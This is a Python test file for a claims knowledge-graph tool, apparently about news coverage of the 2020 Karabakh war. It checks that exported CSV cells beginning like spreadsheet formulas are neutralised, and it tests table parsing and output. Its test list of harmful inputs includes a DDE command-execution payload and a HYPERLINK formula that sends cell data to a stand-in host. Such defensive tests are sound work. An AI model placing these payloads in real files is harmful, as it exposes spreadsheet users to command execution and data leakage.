"""Tables for spreadsheets: nothing in them acts, and nothing gets lost."""

from __future__ import annotations

import csv
import functools
import io
import re
from dataclasses import replace
from datetime import date
from pathlib import Path

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from support.claims_files import CELLS, FOLDERS, SEEDS, WITHOUT_CONTROL
from support.drawing import drawn
from support.sheets import BOM, spreadsheet

from kg import ClaimGraph, load
from kg.authoring.read import read_knowledge
from kg.formats.csv_tables import CsvError, decode_csv, guard_cell, parse_csv, restore_cell, write_csv
from kg.formats.sheet import write_template
from kg.formats.tables import write_claims_table, write_contradictions_table
from kg.model import Article, Bundle, Claim, Knowledge, Quotation, Register, Stance
from kg.report.comparison import compare_views, comparison_csv
from kg.report.data import RELATION_COLUMNS, relations_csv


@functools.cache
def graph(folder: Path) -> ClaimGraph:
    return load(folder)


def read_csv(data: bytes) -> list[list[str]]:
    """Return the cells that ``write_csv`` was given."""
    return [[restore_cell(cell) for cell in row] for row in parse_csv(decode_csv(data))]


def records(data: bytes) -> list[dict[str, str]]:
    head, *rows = read_csv(data)
    assert all(len(row) == len(head) for row in rows)
    return [dict(zip(head, row, strict=True)) for row in rows]


# Cells ------------------------------------------------------------------------------------------------------

SIGNS = "=+-@＝＋－＠"

HARMFUL = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\tx",
    "\rx",
    "\nx",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    '"=1+1',
    "'=1+1",
    "''=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    "ー1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.org/?"&A1;"x")',
    "no; =1+1",
    'no;"=1+1',
    "one\n=1+1",
    "one\r\n-1",
    "one\t@x",
    ";'=1",
    "\n'=1",
]
HARMLESS = ["", "x", "'tis so", "''", "a=b", "1-2", "a@b.org", "گنجه", "a; b", "a\nb", '"so" he said', "'"]


@pytest.mark.parametrize("text", HARMFUL)
def test_what_begins_like_a_formula_is_made_text(text: str) -> None:
    guarded = guard_cell(text)
    assert guarded != text
    assert restore_cell(guarded) == text
    for piece in (guarded, *re.split("[;\t\r\n]", guarded)):
        assert not piece.lstrip('"\u200b\ufeff\u00a0 ').startswith(tuple(SIGNS))
    assert not guarded.startswith(("\t", "\r", "\n"))
    [[cell]] = spreadsheet(write_csv([[text]]))
    assert cell == guarded


@pytest.mark.parametrize("text", HARMLESS)
def test_what_is_harmless_stays_as_it_is(text: str) -> None:
    assert guard_cell(text) == text == restore_cell(text)


@settings(max_examples=drawn(500))
@given(CELLS)
@example("\n'\n''=")
@example(";';=;'=")
def test_restoring_undoes_guarding(text: str) -> None:
    guarded = guard_cell(text)
    assert restore_cell(guarded) == text
    assert not guarded.startswith((*SIGNS, "\t", "\r", "\n"))
    for piece in re.split("[;\t\r\n]", guarded):
        assert not piece.lstrip().startswith(tuple(SIGNS))


@settings(max_examples=drawn(200))
@given(st.lists(st.lists(WITHOUT_CONTROL, min_size=1, max_size=4), max_size=4))
def test_a_table_reads_back_as_it_was(rows: list[list[str]]) -> None:
    data = write_csv(rows)
    assert read_csv(data) == rows
    assert [[restore_cell(cell) for cell in row] for row in spreadsheet(data)] == rows
    assert data == write_csv(rows)


ROWS = st.lists(st.lists(st.text('",;\t\r\n ab', max_size=6), min_size=1, max_size=4), max_size=4)
FAULTS = {'"a"b': "after the quotation mark", '"a': "a quotation mark begins the cell"}


@settings(max_examples=drawn(100))
@given(ROWS, st.lists(st.text('",;\t ab', max_size=6), max_size=3), st.sampled_from([*FAULTS]))
def test_quotation_marks_out_of_place_are_found_where_they_stand(
    rows: list[list[str]], before: list[str], fault: str
) -> None:
    file = io.StringIO(newline="")
    csv.writer(file, delimiter=";").writerows(rows)
    csv.writer(file, delimiter=";", lineterminator=";").writerows([before] if before else [])
    found = parse_csv(file.getvalue() + fault, ";")
    assert [next(found) for _ in rows] == rows
    with pytest.raises(CsvError, match=FAULTS[fault]) as caught:
        next(found)
    assert (caught.value.row, caught.value.column) == (len(rows) + 1, len(before) + 1)


def test_a_row_of_too_many_columns_is_refused_whatever_else_is_wrong_with_it() -> None:
    for text in ("a\n,,", 'a\n,,"b"c', 'a\n,,,"b'):
        with pytest.raises(CsvError, match="more than 2 columns") as caught:
            list(parse_csv(text, most_columns=2))
        assert (caught.value.row, caught.value.column) == (2, 3)


def test_numbers_days_and_truth_values_are_written_for_machines() -> None:
    data = write_csv([[30000, -1, date(2020, 10, 4), True, False, None, "-1"]])
    assert data == BOM + b"30000,-1,2020-10-04,true,false,,'-1\r\n"


def test_what_no_text_of_ours_holds_is_shown_by_its_number() -> None:
    assert read_csv(write_csv([["a\x00b\x1b\ud800"]])) == [["a⟦U+0000⟧b⟦U+001B⟧⟦U+D800⟧"]]
    kept = "bidi \u202e kept, \u200c kept, \x85 kept"
    assert read_csv(write_csv([[kept]])) == [[kept]]


@pytest.mark.parametrize(
    "text", ["\n" * 500_000 + "=", ";\n'" * 200_000 + "=", "=" * 500_000, "' " * 300_000]
)
def test_long_texts_are_guarded_and_restored(text: str) -> None:
    assert restore_cell(guard_cell(text)) == text


# Relations --------------------------------------------------------------------------------------------------


def test_relations_are_written_for_spreadsheets() -> None:
    found = graph(SEEDS)
    knowledge = found.knowledge
    relations = found.relations()
    rows = records(relations_csv(relations, knowledge).encode("utf-8"))
    assert list(rows[0]) == list(RELATION_COLUMNS)
    assert [row["id"] for row in rows] == [relation.id for relation in relations]
    compared = compare_views(relations, ["baku"], [], knowledge)
    alone = records(comparison_csv(compared, knowledge).encode("utf-8"))
    assert list(alone[0]) == ["only_for", *RELATION_COLUMNS]
    assert len(alone) == len(compared.only_first) + len(compared.only_second) > 0
    whole = {row["id"]: row for row in rows}
    for row in alone:
        view = row.pop("only_for")
        assert row == whole[row["id"]]
        [relation] = [relation for relation in relations if relation.id == row["id"]]
        assert relation.holds_for(["baku"]) == (view == "baku") and relation.holds_for([]) == (view == "none")


def harmful(knowledge: Knowledge) -> Knowledge:
    """Return the same knowledge with labels, glosses and quotes that begin like formulas."""
    entries = {
        name: replace(entry, label={language: f"={text}" for language, text in entry.label.items()})
        for name, entry in knowledge.register.entries.items()
    }
    bundles = []
    for bundle in knowledge.bundles:
        claims = tuple(
            replace(
                claim,
                quotations=tuple(replace(q, exact=f"@{q.exact}\n=1") for q in claim.quotations),
                gloss={language: f"-{text}" for language, text in claim.gloss.items()},
                bases={key: f"+{basis}" for key, basis in claim.bases.items()},
            )
            for claim in bundle.claims
        )
        bundles.append(Bundle(replace(bundle.article, published_basis="=1"), claims))
    return replace(knowledge, register=replace(knowledge.register, entries=entries), bundles=tuple(bundles))


@pytest.mark.parametrize("folder", FOLDERS, ids=lambda folder: folder.name)
def test_no_table_holds_a_formula(folder: Path) -> None:
    found = graph(folder)
    knowledge = harmful(found.knowledge)
    relations = found.relations()
    tables = [
        relations_csv(relations, knowledge).encode("utf-8"),
        write_claims_table(knowledge),
        write_contradictions_table(relations, knowledge),
        *(write_template(knowledge, bundle) for bundle in knowledge.bundles),
    ]
    for data in tables:
        assert data.count(b"\n") == data.count(b"\r\n") + sum(
            cell.count("\n") for row in spreadsheet(data) for cell in row
        )
        for row in spreadsheet(data):
            for cell in row:
                for piece in re.split("[;\t\r\n]", cell):
                    assert not piece.lstrip('" ').startswith(tuple(SIGNS)), cell


def test_the_table_of_claims() -> None:
    knowledge = graph(SEEDS).knowledge
    data = write_claims_table(knowledge)
    assert data == write_claims_table(read_knowledge([SEEDS]))
    rows = {row["claim"]: row for row in records(data)}
    assert len(rows) == len(knowledge.claims) == len(spreadsheet(data)) - 1
    m2b = rows["m2b"]
    assert m2b["source"] == m2b["origin"] == "azerbaijan-mod"
    assert m2b["source_label_en"] == "Ministry of Defence of Azerbaijan" and m2b["source_label_fa"]
    assert m2b["presupposes"] == "firing(agent=armenian-forces, target=azerbaijan, time=2020-10-04)"
    assert (m2b["time_from"], m2b["time_to"], m2b["said_from"]) == ("2020-10-04",) * 3
    assert m2b["said_basis"].startswith("'hours before the new attack'")
    u1 = rows["u1"]
    assert (u1["measure"], u1["of"], u1["min"], u1["max"], u1["soft"]) == (
        "killed",
        "people",
        "231",
        "",
        "false",
    )
    n2a = next(row for row in rows.values() if row["soft"] == "true" and row["max"] == "33000")
    assert n2a["min"] == "27000"
    assert rows["m1"]["via"] == "azerbaijan-mod-twitter" and rows["m1"]["cue"] == "خبر داد"
    assert rows["n3"]["time_from"] == "2020-10-04" and rows["n3"]["time_to"] == ""
    two = rows["n2c"]
    starts, ends = two["start"].split("|"), two["end"].split("|")
    article = knowledge.articles["karabakh-2020-10-04"].text or ""
    spans = [article[int(start) : int(end)] for start, end in zip(starts, ends, strict=True)]
    assert len(spans) == 2 and "\n".join(spans) == two["quote"]
    a1b = rows["a1b"]
    where = "karabakh+karabakh-surroundings"
    assert a1b["condition"] == f"withdrawal(agent=armenia, place={where}, time=2020-10-04/..)"


def test_a_claim_without_content_or_dates_has_empty_cells() -> None:
    article = Article("a", "Who?", "en", "b", url="https://example.org/a", licence="https://example.org/l")
    claim = Claim("q", "c", Stance.ASKS, None, (Quotation("Who?", 0, 4),))
    knowledge = Knowledge(Register(), (Bundle(article, (claim,)),))
    [row] = records(write_claims_table(knowledge))
    filled = {name: cell for name, cell in row.items() if cell}
    assert filled == {
        "article": "a",
        "claim": "q",
        "source": "c",
        "origin": "c",
        "stance": "asks",
        "certainty": "unspecified",
        "direct": "false",
        "quote": "Who?",
        "start": "0",
        "end": "4",
        "publisher": "b",
        "url": "https://example.org/a",
        "licence": "https://example.org/l",
    }


@pytest.mark.parametrize("folder", FOLDERS, ids=lambda folder: folder.name)
def test_the_table_of_contradictions(folder: Path) -> None:
    found = graph(folder)
    relations = found.relations()
    expected = [relation for relation in relations if relation.relation == "contradicts"]
    rows = records(write_contradictions_table(relations, found.knowledge))
    assert [row["id"] for row in rows] == [relation.id for relation in expected]
    for row, relation in zip(rows, expected, strict=True):
        first, *others = relation.positions
        assert row["first_claims"].split("|") == list(first.claims)
        assert row["second_claims"].split("|") == [name for other in others for name in other.claims]
        assert row["conflict"].split() == list(relation.conflict)
        views = {frozenset(view.split("+")) - {"always"} for view in row["holds_if"].split("|")}
        assert views == set(relation.holds_if)
        assert row["question_en"] and row["question_fa"] and row["input_hash"] == relation.input_hash
        assert len(row["bridges"].splitlines()) == len(relation.bridges)
        for name in first.claims:
            assert found.knowledge.claims[name].quotations[0].exact in row["first_quotes"]
            assert found.knowledge.claims[name].source in row["first_sources"].split("|")
